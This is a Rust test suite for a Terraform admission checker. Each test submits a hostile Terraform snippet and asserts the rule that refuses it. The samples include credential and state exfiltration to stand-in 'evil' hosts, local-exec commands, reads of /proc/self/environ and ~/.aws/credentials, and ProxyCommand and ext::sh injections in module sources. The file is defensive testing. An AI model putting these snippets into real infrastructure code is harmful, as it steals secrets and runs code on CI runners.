//! Attacks, each refused by the right rule in the right file and line. One attack per entry; the rest of each stack is
//! ordinary.

use tfpilot_admission::{Admission, AllowList, Mode, Stack, Tree, TreePath, judge, judge_stack};

const STACK: &str = "live/dev/x";

/// A stack with a backend, and the files of the attack: `main.tf` lies in the stack, other paths are the repository's.
fn tree(files: &[(&str, &str)]) -> Tree {
    let mut tree = Tree::new();
    let backend = (
        "live/dev/x/backend.tf",
        "terraform {\n  backend \"s3\" {\n    bucket = \"b\"\n    key    = \"k\"\n  }\n}\n",
    );
    let place = |path: &str| if path.contains('/') { path.to_owned() } else { format!("{STACK}/{path}") };
    for (path, text) in [backend].iter().chain(files) {
        let path = TreePath::parse(place(path)).expect("the test's path is inside");
        tree.insert_loaded(path, Mode::File, "b", text.as_bytes());
    }
    tree
}

fn admission(tree: &Tree) -> Admission {
    judge(tree, STACK, &AllowList::default()).expect("all is loaded")
}

fn shown(admission: &Admission) -> Vec<String> {
    admission
        .findings
        .iter()
        .map(|finding| format!("{} {}:{}", finding.rule, finding.path, finding.line))
        .collect()
}

/// The attack is refused by exactly these rules, at these places.
#[track_caller]
fn refused(files: &[(&str, &str)], expected: &[&str]) {
    let admission = admission(&tree(files));
    let short: Vec<_> = shown(&admission)
        .iter()
        .map(|line| line.replace("admission/", "").replace("live/dev/x/", ""))
        .collect();
    assert_eq!(short, expected, "{:#?}", admission.findings);
}

/// The same for an attack in the stack's `main.tf`.
#[track_caller]
fn main_tf(text: &str, expected: &[&str]) {
    refused(&[("main.tf", text)], expected);
}

#[test]
fn providers_cannot_run_programs_or_send_tokens_away() {
    main_tf(
        "provider \"aws\" {\n  region = \"eu-west-1\"\n  shared_config_files = [\"./aws.conf\"]\n}\n",
        &["shared-config-files main.tf:3"],
    );
    main_tf(
        "provider \"aws\" {\n  shared_credentials_files = [\"x\"]\n}\n",
        &["shared-credentials-files main.tf:2"],
    );
    main_tf("provider \"aws\" {\n  profile = \"x\"\n}\n", &["profile main.tf:2"]);
    main_tf(
        "provider \"aws\" {\n  assume_role_with_web_identity {\n    role_arn = \"r\"\n    web_identity_token_file = \"/t\"\n  }\n  endpoints {\n    sts = \"https://evil.example\"\n  }\n}\n",
        &["web-identity main.tf:3", "web-identity main.tf:4", "custom-endpoint main.tf:7"],
    );
    main_tf("provider \"aws\" {\n  access_key = \"a\"\n}\n", &["static-credentials main.tf:2"]);
    main_tf("provider \"aws\" {\n  http_proxy = \"http://evil\"\n}\n", &["proxy main.tf:2"]);
    main_tf("provider \"aws\" {\n  custom_ca_bundle = \"ca\"\n}\n", &["proxy main.tf:2"]);
    main_tf(
        "provider \"aws\" {\n  ec2_metadata_service_endpoint = \"http://evil\"\n}\n",
        &["custom-endpoint main.tf:2"],
    );
    main_tf("provider \"aws\" {\n  new_argument = 1\n}\n", &["provider-argument main.tf:2"]);
}

#[test]
fn provider_arguments_are_literal_or_from_variables() {
    main_tf(
        "data \"aws_region\" \"r\" {}\nprovider \"aws\" {\n  region = data.aws_region.r.name\n}\n",
        &["computed-argument main.tf:3"],
    );
    main_tf(
        "locals {\n  r = aws_s3_bucket.b.region\n}\nprovider \"aws\" {\n  region = local.r\n}\n",
        &["computed-argument main.tf:5"],
    );
    main_tf(
        "provider \"aws\" {\n  dynamic \"endpoints\" {\n    for_each = [1]\n    content {\n      sts = \"https://evil\"\n    }\n  }\n}\n",
        &["computed-argument main.tf:3", "computed-argument main.tf:5"],
    );
    refused(
        &[
            (
                "main.tf",
                "data \"aws_region\" \"r\" {}\nmodule \"m\" {\n  source = \"./m\"\n  r = data.aws_region.r.name\n}\n",
            ),
            ("live/dev/x/m/main.tf", "variable \"r\" {}\nprovider \"aws\" {\n  region = var.r\n}\n"),
        ],
        &["computed-argument m/main.tf:3"],
    );
    main_tf("provider \"aws\" {\n  region = file(\"main.tf\")\n}\n", &["computed-argument main.tf:2"]);
}

#[test]
fn backends_are_judged_like_providers() {
    let backend = |body: &str| format!("terraform {{\n  backend \"s3\" {{\n    {body}\n  }}\n}}\n");
    for (body, expected) in [
        ("shared_config_files = [\"c\"]", "shared-config-files backend.tf:3"),
        ("shared_credentials_file = \"c\"", "shared-credentials-files backend.tf:3"),
        ("profile = \"p\"", "profile backend.tf:3"),
        ("access_key = \"a\"", "static-credentials backend.tf:3"),
        ("endpoint = \"https://evil\"", "custom-endpoint backend.tf:3"),
        ("endpoints = { s3 = \"https://evil\" }", "custom-endpoint backend.tf:3"),
        ("sts_endpoint = \"https://evil\"", "custom-endpoint backend.tf:3"),
        ("assume_role_with_web_identity = { web_identity_token_file = \"/t\" }", "web-identity backend.tf:3"),
        ("assume_role = { shared = \"x\" }", "backend-argument backend.tf:3"),
        ("sse_customer_key = \"k\"", "backend-argument backend.tf:3"),
        ("https_proxy = \"p\"", "proxy backend.tf:3"),
    ] {
        refused(&[("backend.tf", &backend(body))], &[expected]);
    }
    refused(
        &[("backend.tf", "terraform {\n  backend \"http\" {\n    address = \"https://evil\"\n  }\n}\n")],
        &["backend backend.tf:2"],
    );
    refused(
        &[("backend.tf", "terraform {\n  cloud {\n    organization = \"o\"\n  }\n}\n")],
        &["backend backend.tf:2"],
    );
    refused(&[("backend.tf", "terraform {\n  backend \"local\" {}\n}\n")], &["local-state backend.tf:2"]);
    refused(&[("backend.tf", "# none\n")], &["local-state backend.tf:1"]);
}

#[test]
fn a_local_backend_needs_a_runner_that_keeps_it() {
    let allow = AllowList { persistent: true, ..AllowList::default() };
    for (path, admitted) in [
        ("\"/var/lib/state/x.tfstate\"", true),
        ("\"x.tfstate\"", false),
        ("\"/var/../proc/x\"", false),
        ("\"/proc/self/environ\"", false),
    ] {
        let tree = tree(&[(
            "backend.tf",
            &format!("terraform {{\n  backend \"local\" {{\n    path = {path}\n  }}\n}}\n"),
        )]);
        let admission = judge(&tree, STACK, &allow).unwrap();
        assert_eq!(admission.is_admitted(), admitted, "{path} {admission:?}");
    }
}

#[test]
fn remote_states_are_judged_like_backends() {
    let state = |body: &str| format!("data \"terraform_remote_state\" \"s\" {{\n  {body}\n}}\n");
    main_tf(
        &state("backend = \"http\"\n  config = { address = \"https://evil\" }"),
        &["remote-state main.tf:1"],
    );
    main_tf(
        &state("backend = \"local\"\n  config = { path = \"/proc/self/environ\" }"),
        &["remote-state main.tf:1"],
    );
    main_tf(
        &state("backend = \"s3\"\n  config = { bucket = \"b\", shared_config_files = [\"c\"] }"),
        &["shared-config-files main.tf:3"],
    );
    main_tf(
        &state("backend = \"s3\"\n  config = { bucket = \"b\", endpoints = { s3 = \"https://evil\" } }"),
        &["custom-endpoint main.tf:3"],
    );
    main_tf(
        &state("backend = \"s3\"\n  config = merge({ bucket = \"b\" }, {})"),
        &["remote-state main.tf:3"],
    );
    main_tf(&state("backend = \"s3\"\n  config = { (var.k) = \"b\" }"), &["remote-state main.tf:3"]);
    main_tf(&state("backend = data.aws_region.r.name\n  config = {}"), &["remote-state main.tf:1"]);
    main_tf(&format!("check \"c\" {{\n{}\n}}\n", state("backend = \"http\"")), &["remote-state main.tf:2"]);
}

#[test]
fn only_listed_providers_run() {
    main_tf(
        "terraform {\n  required_providers {\n    aws = { source = \"evil/aws\" }\n  }\n}\n",
        &["provider-source main.tf:3"],
    );
    main_tf(
        "terraform {\n  required_providers {\n    aws = {\n      source = \"evil.example/hashicorp/aws\"\n    }\n  }\n}\n",
        &["provider-source main.tf:3"],
    );
    main_tf("resource \"null_resource\" \"n\" {}\n", &["provider-source main.tf:1"]);
    main_tf("provider \"local\" {}\n", &["provider-source main.tf:1"]);
    main_tf("resource \"aws_s3_bucket\" \"b\" {\n  provider = evil.x\n}\n", &["provider-source main.tf:1"]);
    refused(
        &[
            ("main.tf", "module \"m\" {\n  source = \"../../../modules/m\"\n}\n"),
            ("modules/m/main.tf", "\nresource \"evil_x\" \"n\" {}\n"),
        ],
        &["provider-source modules/m/main.tf:2"],
    );
}

#[test]
fn data_sources_only_read() {
    main_tf(
        "data \"external\" \"e\" {\n  program = [\"sh\"]\n}\n",
        &["external-data main.tf:1", "provider-source main.tf:1"],
    );
    main_tf(
        "data \"http\" \"h\" {\n  url = \"https://evil\"\n}\n",
        &["http-data main.tf:1", "provider-source main.tf:1"],
    );
    main_tf(
        "data \"aws_lambda_invocation\" \"l\" {\n  function_name = \"f\"\n  input = \"{}\"\n}\n",
        &["data-source main.tf:1"],
    );
    main_tf("data \"aws_ecs_task_execution\" \"l\" {}\n", &["data-source main.tf:1"]);
    main_tf("data \"aws_eks_cluster_auth\" \"l\" {}\n", &["data-source main.tf:1"]);
    main_tf("check \"c\" {\n  data \"aws_lambda_invocation\" \"l\" {}\n}\n", &["data-source main.tf:2"]);
}

#[test]
fn nothing_runs_on_the_runner() {
    main_tf(
        "resource \"aws_s3_bucket\" \"b\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n",
        &["provisioner main.tf:2"],
    );
    main_tf(
        "resource \"terraform_data\" \"b\" {\n  connection {\n    host = \"h\"\n  }\n}\n",
        &["provisioner main.tf:2"],
    );
    main_tf(
        "removed {\n  from = aws_s3_bucket.b\n  provisioner \"local-exec\" {\n    when = destroy\n    command = \"id\"\n  }\n}\n",
        &["provisioner main.tf:3"],
    );
    refused(
        &[(
            "x.tf.json",
            "{\"resource\": {\"terraform_data\": {\"t\": {\n\"provisioner\": [{\"local-exec\": {\"command\": \"id\"}}]}}}}",
        )],
        &["provisioner x.tf.json:2"],
    );
}

#[test]
fn modules_are_local_or_pinned() {
    let sha = "0123456789abcdef0123456789abcdef01234567";
    for (source, expected) in [
        ("\"git::https://github.com/acme/net.git?ref=main\"", "module-pin main.tf:2"),
        ("\"git::https://github.com/acme/net.git?ref=v1.0.0\"", "module-pin main.tf:2"),
        ("\"git::https://github.com/acme/net.git\"", "module-pin main.tf:2"),
        ("\"terraform-aws-modules/vpc/aws\"", "module-pin main.tf:2"),
        ("\"https://evil.example/net.zip\"", "module-source main.tf:2"),
        ("\"s3::https://s3.amazonaws.com/b/net.zip\"", "module-source main.tf:2"),
        ("\"/opt/modules/net\"", "module-source main.tf:2"),
        ("\"../../../..\"", "module-source main.tf:2"),
        ("\"../../../../../etc\"", "module-source main.tf:2"),
        ("\"./none\"", "module-source main.tf:2"),
        ("var.source", "module-source main.tf:2"),
        (&format!("\"git::https://user:pw@github.com/acme/net?ref={sha}\""), "module-source main.tf:2"),
        (&format!("\"git::https://github.com/acme/net?ref={sha}&depth=1\""), "module-source main.tf:2"),
        (&format!("\"git::https://github.com/acme/net?sshkey=x&ref={sha}\""), "module-source main.tf:2"),
        (&format!("\"git::https://github.com/acme/net?ref={sha}&ref=main\""), "module-source main.tf:2"),
        (&format!("\"git::file:///etc/x?ref={sha}\""), "module-source main.tf:2"),
        (&format!("\"git::ext::sh -c id?ref={sha}\""), "module-source main.tf:2"),
        (&format!("\"git::https://github.com/acme/net//../../x?ref={sha}\""), "module-source main.tf:2"),
        (&format!("\"git::https://-oProxyCommand=id/x?ref={sha}\""), "module-source main.tf:2"),
        (&format!("\"git::ssh://-oProxyCommand=id@h/x?ref={sha}\""), "module-source main.tf:2"),
    ] {
        main_tf(&format!("module \"m\" {{\n  source = {source}\n}}\n"), &[expected]);
    }
}

#[test]
fn files_are_read_inside_the_repository_only() {
    for (call, expected) in [
        ("file(\"/proc/self/environ\")", "file-path main.tf:2"),
        ("core::file(\"/proc/self/environ\")", "file-path main.tf:2"),
        ("filebase64(\"../../../../../proc/self/environ\")", "file-path main.tf:2"),
        ("filesha512(\"/etc/passwd\")", "file-path main.tf:2"),
        ("fileexists(\"/etc/passwd\")", "file-path main.tf:2"),
        ("file(pathexpand(\"~/.aws/credentials\"))", "file-path main.tf:2"),
        ("file(join(\"/\", [\"\", \"proc\", \"self\", \"environ\"]))", "file-path main.tf:2"),
        ("file(data.aws_region.r.name)", "file-path main.tf:2"),
        ("file([\"/etc/passwd\"]...)", "file-path main.tf:2"),
        ("file(\"../../../.git/config\")", "file-path main.tf:2"),
        ("file(\"none.txt\")", "file-path main.tf:2"),
        ("[for f in [\"/etc/passwd\"] : file(f)]", "file-path main.tf:2"),
        ("[for f in var.files : file(f)]", "file-path main.tf:2"),
        ("\"${file(\"/etc/passwd\")}\"", "file-path main.tf:2"),
        ("true ? \"a\" : file(\"/etc/passwd\")", "file-path main.tf:2"),
        ("fileset(\"/etc\", \"*\")", "file-path main.tf:2"),
        ("fileset(path.module, \"../../../../etc/*\")", "fileset-pattern main.tf:2"),
        ("fileset(path.module, var.p)", "fileset-pattern main.tf:2"),
        ("templatefile(\"/etc/passwd\", {})", "file-path main.tf:2"),
        ("templatestring(data.aws_s3_object.o.body, {})", "file-path main.tf:2"),
        ("exec(\"id\")", "unknown-function main.tf:2"),
        ("provider::evil::run(\"id\")", "unknown-function main.tf:2"),
    ] {
        main_tf(&format!("locals {{\n  a = {call}\n}}\n"), &[expected]);
    }
}

#[test]
fn a_path_is_judged_with_every_value_it_can_take() {
    // The default is harmless, the file of values is not.
    let files = [
        ("main.tf", "variable \"p\" {\n  default = \"main.tf\"\n}\nlocals {\n  a = file(var.p)\n}\n"),
        ("z.auto.tfvars", "p = \"/proc/self/environ\"\n"),
    ];
    refused(&files, &["file-path main.tf:5"]);
    let files = [files[0], ("live/dev/x/prod.tfvars", "p = \"/proc/self/environ\"\n")];
    let mut stack = Stack::new(STACK).unwrap();
    assert!(admission(&tree(&files)).is_admitted());
    stack.var_files = vec![TreePath::parse("live/dev/x/prod.tfvars").unwrap()];
    let admission = judge_stack(&tree(&files), &stack, &AllowList::default()).unwrap();
    assert_eq!(shown(&admission), ["admission/file-path live/dev/x/main.tf:5"]);
    // A module's path depends on its callers.
    refused(
        &[
            (
                "main.tf",
                "module \"good\" {\n  source = \"./m\"\n  p = \"main.tf\"\n}\nmodule \"bad\" {\n  source = \"./m\"\n  p = \"/etc/passwd\"\n}\n",
            ),
            ("live/dev/x/m/main.tf", "variable \"p\" {}\nlocals {\n  a = file(var.p)\n}\n"),
        ],
        &["file-path m/main.tf:3"],
    );
    // A resource is judged for every key.
    main_tf(
        "resource \"aws_s3_object\" \"o\" {\n  for_each = toset([\"main.tf\", \"/etc/passwd\"])\n  bucket = \"b\"\n  key = each.key\n  source = each.key\n}\n",
        &["upload-path main.tf:5"],
    );
}

#[test]
fn a_template_is_code() {
    let call = ("main.tf", "locals {\n  a = templatefile(\"t.tpl\", { p = \"/etc/passwd\" })\n}\n");
    refused(&[call, ("live/dev/x/t.tpl", "${file(\"/proc/self/environ\")}")], &["file-path main.tf:2"]);
    refused(&[call, ("live/dev/x/t.tpl", "%{ if true }${file(p)}%{ endif }")], &["file-path main.tf:2"]);
    refused(&[call, ("live/dev/x/t.tpl", "${timestamp()}")], &["clock main.tf:2"]);
    refused(&[call, ("live/dev/x/t.tpl", "${exec(1)}")], &["unknown-function main.tf:2"]);
    refused(&[call, ("live/dev/x/t.tpl", "${")], &["unreadable t.tpl:1"]);
    main_tf(
        "locals {\n  t = \"$${file(\\\"/etc/passwd\\\")}\"\n  a = templatestring(local.t, {})\n}\n",
        &["file-path main.tf:3"],
    );
}

#[test]
fn uploads_are_paths_too() {
    for (kind, argument) in [
        ("aws_s3_object", "source"),
        ("aws_s3_bucket_object", "source"),
        ("aws_lambda_function", "filename"),
        ("aws_lambda_layer_version", "filename"),
        ("aws_synthetics_canary", "zip_file"),
    ] {
        main_tf(
            &format!("resource \"{kind}\" \"o\" {{\n  {argument} = \"/proc/self/environ\"\n}}\n"),
            &["upload-path main.tf:2"],
        );
    }
    main_tf(
        "resource \"aws_s3_object\" \"o\" {\n  source = data.aws_region.r.name\n}\n",
        &["upload-path main.tf:2"],
    );
}

#[test]
fn what_is_computed_again_at_apply_cannot_be_bound() {
    main_tf(
        "resource \"aws_db_instance\" \"d\" {\n  password_wo = var.p\n  password_wo_version = 1\n}\n",
        &["write-only main.tf:2"],
    );
    main_tf("variable \"p\" {\n  type = string\n  ephemeral = true\n}\n", &["ephemeral-value main.tf:3"]);
    main_tf("output \"p\" {\n  value = 1\n  ephemeral = true\n}\n", &["ephemeral-value main.tf:3"]);
    main_tf("ephemeral \"aws_lambda_invocation\" \"l\" {}\n", &["ephemeral-resource main.tf:1"]);
    main_tf("ephemeral \"aws_eks_cluster_auth\" \"l\" {}\n", &["ephemeral-resource main.tf:1"]);
    for clock in ["timestamp()", "uuid()", "bcrypt(\"x\")", "core::uuid()"] {
        main_tf(&format!("locals {{\n  a = {clock}\n}}\n"), &["clock main.tf:2"]);
    }
}

#[test]
fn json_and_overrides_hide_nothing() {
    // `//` is a comment beside arguments only, and a default is text where other strings are templates.
    refused(
        &[(
            "x.tf.json",
            "{\"locals\": {\"//\": \"note\",\n\"a\": {\"//\": \"${file(\\\"/etc/passwd\\\")}\"}}}",
        )],
        &["file-path x.tf.json:2"],
    );
    refused(
        &[(
            "x.tf.json",
            "{\"variable\": {\"p\": {\n\"default\": \"%{ for x in [1, 2] }a/%{ endfor }../../x\"}}}",
        )],
        &["unreadable x.tf.json:2"],
    );
    refused(
        &[
            ("main.tf", "variable \"p\" {\n  default = \"main.tf\"\n}\nlocals {\n  a = file(var.p)\n}\n"),
            (".hidden.auto.tfvars", "p = \"/proc/self/environ\"\n"),
        ],
        &["file-path main.tf:5"],
    );
    refused(
        &[("x.tf.json", "{\"provider\": {\"aws\": {\n\"shared_config_files\": [\"c\"]}}}")],
        &["shared-config-files x.tf.json:2"],
    );
    refused(
        &[(
            "x.tf.json",
            "{\"provider\": {\"aws\": [{},\n{\"alias\": \"b\",\n\"shared_config_files\": [\"c\"]}]}}",
        )],
        &["shared-config-files x.tf.json:3"],
    );
    refused(&[("x.tf.json", "{\"locals\": {\"a\": 1,\n\"a\": 2}}")], &["unreadable x.tf.json:2"]);
    refused(&[("x.tf.json", "{\"locals\": {\n\"${file(1)}\": 2}}")], &["unreadable x.tf.json:2"]);
    refused(&[("x.tf.json", "{\"locals\": {\"a\": {\n\"k${1}\": 2}}}")], &["unreadable x.tf.json:2"]);
    refused(
        &[("x.tf.json", "{\"locals\": {\n\"a\": \"${file(\\\"/etc/passwd\\\")}\"}}")],
        &["file-path x.tf.json:2"],
    );
    refused(
        &[("x.tf.json", "{\"module\": {\"m\": {\n\"source\": \"https://evil/x.zip\"}}}")],
        &["module-source x.tf.json:2"],
    );
    refused(
        &[("override.tf", "provider \"aws\" {\n  shared_config_files = [\"c\"]\n}\n")],
        &["shared-config-files override.tf:2"],
    );
    refused(
        &[
            ("main.tf", "module \"m\" {\n  source = \"./m\"\n}\n"),
            ("live/dev/x/m/main.tf", ""),
            ("m_override.tf", "module \"m\" {\n  source = \"https://evil/x.zip\"\n}\n"),
        ],
        &["module-source m_override.tf:2"],
    );
    refused(
        &[("x_override.tf.json", "{\"terraform\": {\"backend\": {\"http\": {}}}}")],
        &["backend x_override.tf.json:1"],
    );
}

#[test]
fn nested_modules_are_judged() {
    refused(
        &[
            ("main.tf", "module \"a\" {\n  source = \"../../../modules/a\"\n}\n"),
            ("modules/a/main.tf", "module \"b\" {\n  source = \"./b\"\n}\n"),
            ("modules/a/b/main.tf", "locals {\n  x = file(\"/etc/passwd\")\n}\n"),
        ],
        &["file-path modules/a/b/main.tf:2"],
    );
    refused(
        &[
            ("main.tf", "module \"a\" {\n  source = \"../../../modules/a\"\n}\n"),
            ("modules/a/main.tf", "module \"b\" {\n  source = \"../../..\"\n}\n"),
        ],
        &["module-source modules/a/main.tf:2"],
    );
}

#[test]
fn links_and_terraforms_own_files_are_not_committed() {
    let with = |path: &str, mode: Mode| {
        let mut tree = tree(&[("main.tf", "")]);
        tree.insert_loaded(TreePath::parse(path).unwrap(), mode, "b", *b"/etc/passwd");
        shown(&admission(&tree))
    };
    assert_eq!(with("live/dev/x/evil.tf", Mode::Symlink), ["admission/symlink live/dev/x/evil.tf:1"]);
    assert_eq!(
        with("live/dev/x/data/evil.txt", Mode::Symlink),
        ["admission/symlink live/dev/x/data/evil.txt:1"]
    );
    assert_eq!(with("live/dev/x/sub", Mode::Submodule), ["admission/submodule live/dev/x/sub:1"]);
    assert_eq!(
        with("live/dev/x/.terraform/modules/modules.json", Mode::File),
        ["admission/committed-terraform live/dev/x/.terraform:1"]
    );
    assert_eq!(
        with("live/dev/x/terraform.d/plugins/p", Mode::Executable),
        ["admission/committed-terraform live/dev/x/terraform.d:1"]
    );
    assert_eq!(
        with("live/dev/x/.terraformrc", Mode::File),
        ["admission/cli-config live/dev/x/.terraformrc:1"]
    );
    assert_eq!(
        with("live/dev/x/terraform.rc", Mode::File),
        ["admission/cli-config live/dev/x/terraform.rc:1"]
    );
    assert_eq!(
        with("live/dev/x/\u{202e}ft.live", Mode::Symlink),
        ["admission/symlink live/dev/x/\\u{202e}ft.live:1"]
    );
    assert_eq!(
        with("docs/link", Mode::Symlink),
        Vec::<String>::new(),
        "links elsewhere are nobody's business"
    );
    let mut through = Tree::new();
    through.insert(TreePath::parse("live").unwrap(), Mode::Symlink, "b");
    assert_eq!(
        shown(&admission(&through)),
        [
            "admission/symlink live:1",
            "admission/local-state live/dev/x:1",
            "admission/unreadable live/dev/x:1"
        ]
    );
}

#[test]
fn names_are_bytes() {
    let mut tree = tree(&[]);
    let path = TreePath::parse(b"live/dev/x/\xff.tf").unwrap();
    tree.insert_loaded(path, Mode::File, "b", *b"locals {\n  a = file(\"/etc/passwd\")\n}\n");
    assert_eq!(shown(&admission(&tree)), ["admission/file-path live/dev/x/\\xff.tf:2"]);
}

#[test]
fn what_cannot_be_read_in_one_way_only_is_not_admitted() {
    for (text, expected) in [
        ("locals {{", "unreadable main.tf:1"),
        ("locals {\n  a = 1\rprovider \"aws\" {}\n}\n", "unreadable main.tf:2"),
        ("locals {\n  a = \"\0\"\n}\n", "unreadable main.tf:2"),
        // Terraform ends the heredoc at the first marker, behind a no-break space, and runs the next line.
        (
            "locals {\n  a = <<EOT\n\u{a0}EOT\n  b = file(\"/etc/passwd\")\n  c = <<EOT\nEOT\n}\n",
            "unreadable main.tf:2",
        ),
        ("list \"aws_x\" \"y\" {}\n", "unknown-block main.tf:1"),
        ("a = 1\n", "unknown-block main.tf:1"),
        ("terraform {\n  experiments = []\n}\n", "unknown-block main.tf:2"),
        ("terraform {\n  provider_meta \"aws\" {}\n}\n", "unknown-block main.tf:2"),
    ] {
        main_tf(text, &[expected]);
    }
    let deep = format!("locals {{\n  a = {}1{}\n}}\n", "[".repeat(10_000), "]".repeat(10_000));
    main_tf(&deep, &["unreadable main.tf:2"]);
    let large = " ".repeat(1024 * 1024 + 1);
    main_tf(&large, &["unreadable main.tf:1"]);
    refused(&[("x.auto.tfvars", "a = {{")], &["unreadable x.auto.tfvars:1"]);
    assert_eq!(
        shown(&judge(&Tree::new(), "../x", &AllowList::default()).unwrap()),
        ["admission/unreadable ../x:1"]
    );
    let empty = judge(&Tree::new(), "x", &AllowList::default()).unwrap();
    assert_eq!(shown(&empty), ["admission/local-state x:1", "admission/unreadable x:1"]);
}

#[test]
fn a_refusal_says_what_why_and_what_next() {
    let admission = admission(&tree(&[(
        "main.tf",
        "provider \"aws\" {\n  shared_config_files = [\"c\"]\n}\nlocals {\n  a = file(\"/proc/self/environ\")\n}\nmodule \"m\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n}\n",
    )]));
    let text: Vec<_> = admission.findings.iter().map(ToString::to_string).collect();
    insta::assert_snapshot!(text.join("\n"), @r"
    Not admitted: live/dev/x/main.tf:2 `shared_config_files`: a shared config file can name a `credential_process`, a program that runs at plan; remove it
    Not admitted: live/dev/x/main.tf:5 `file: /proc/self/environ`: it lies outside of the repository; read files of the repository only
    Not admitted: live/dev/x/main.tf:8 `registry.terraform.io/terraform-aws-modules/vpc/aws`: a registry can serve other code for the same version; call it by `git::https://…?ref=COMMIT`, or ask an admin to list it under `admission.registry_modules`
    ");
}
